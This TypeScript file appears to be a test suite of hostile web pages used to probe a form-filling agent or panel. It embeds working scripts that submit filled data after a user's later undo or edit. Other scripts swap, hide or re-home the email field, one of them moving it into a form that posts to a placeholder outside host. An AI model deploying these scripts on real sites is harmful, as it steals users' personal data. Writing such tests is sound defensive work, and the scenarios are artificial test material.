import type { PageAttack, UserAct } from '../attack';
import { anyInNamed, bytesReceived, frozenIn } from '../stage/judging';
import { applicationPage, contactFields, field } from './markup';

/** What a page does once the panel is used again. `sends`: what was filled in, to the site itself. */
const sends = `fetch('/applications/submit', { method: 'POST', body: new URLSearchParams(new FormData(document.forms[0])) })`;

const acts: Record<string, readonly UserAct[]> = {
  undo: [{ act: 'undo' }, { act: 'wait', ms: 300 }],
  edit: [
    { act: 'edit', question: 'Phone', value: '+44 20 7946 0000' },
    { act: 'wait', ms: 300 },
  ],
};

const events = ['input', 'change', 'focusin', 'focusout', 'keydown'] as const;

/** Waits until all is filled and nothing has happened for a while, as after a run. */
const arming = (event: string): string => `let isArmed = false; let isOver = false; let timer = 0;
addEventListener('change', () => {
  clearTimeout(timer);
  if (document.forms[0].phone.value !== '') timer = setTimeout(() => { isArmed = true; }, 800);
}, true);
addEventListener('${event}', () => { if (isArmed && !isOver) { isOver = true; ${sends}; } }, true)`;

/** Pages that wait until the run is over and the panel changes something. */
export const afterTheRun: PageAttack[] = Object.entries(acts).flatMap(([name, afterwards]) =>
  events.map((event) => ({
    id: `after-the-run/${name}/${event}`,
    class: 'after-the-run',
    goal: `the page sends what was filled in as its user changes it from the panel (${name}, ${event})`,
    needsBrowser: true,
    stage: {
      run: { kind: 'fill' },
      settleMs: 1_200,
      afterwards,
      pages: {
        site: {
          '/': `${applicationPage()}<script>${arming(event)}</script>`,
        },
      },
    },
    judge: (evidence) => ({ submits: bytesReceived(evidence, ['site']) > 0 ? 1 : 0, frozen: frozenIn(evidence) }),
  })),
);

/** A field that becomes another between being read and being written. */
const swaps: Record<string, string> = {
  'renamed-on-focus': `for (const one of document.querySelectorAll('input')) one.addEventListener('focus', () => { one.labels[0].textContent = "Friend's e-mail"; one.name = 'q0'; }, { once: true })`,
  'hidden-on-focus': `addEventListener('focusin', ({ target }) => { if (target.name === 'email') { target.style.cssText = 'position:absolute;left:-9999px'; target.name = 'q0'; } })`,
  'replaced-after-reading': `setTimeout(() => { const field = document.querySelector('[name=email]'); field.outerHTML = '<input id="email" name="q0" type="hidden">'; }, 350)`,
  'moved-to-another-form': `addEventListener('focusin', ({ target }) => { if (target.name !== 'email') return; const form = Object.assign(document.createElement('form'), { id: 'f2', action: '{{other}}/collected', method: 'post' }); document.body.append(form); target.setAttribute('form', 'f2'); target.name = 'q0'; })`,
  'mirrored-into-hidden': `document.forms[0].insertAdjacentHTML('beforeend', '<input name="q0" style="opacity:0" aria-label="E-mail (again)">')`,
};

/** Fields that are not what they were. */
export const swappedFields: PageAttack[] = Object.entries(swaps).map(([name, script]) => ({
  id: `after-the-run/field-${name}`,
  class: 'after-the-run',
  goal: 'what was meant for one field stands in another',
  needsBrowser: true,
  stage: {
    run: { kind: 'fill' },
    settleMs: 300,
    pages: {
      site: {
        '/': `<title>Apply, Acme</title><main><h1>Brewer</h1><form method="post" action="/applications">${contactFields}${field('City', 'city')}<button>Submit application</button></form></main><script>${script}</script>`,
      },
    },
  },
  judge: (evidence) => ({
    bytesElsewhere: anyInNamed(evidence, ['q0']),
    frozen: frozenIn(evidence),
  }),
}));
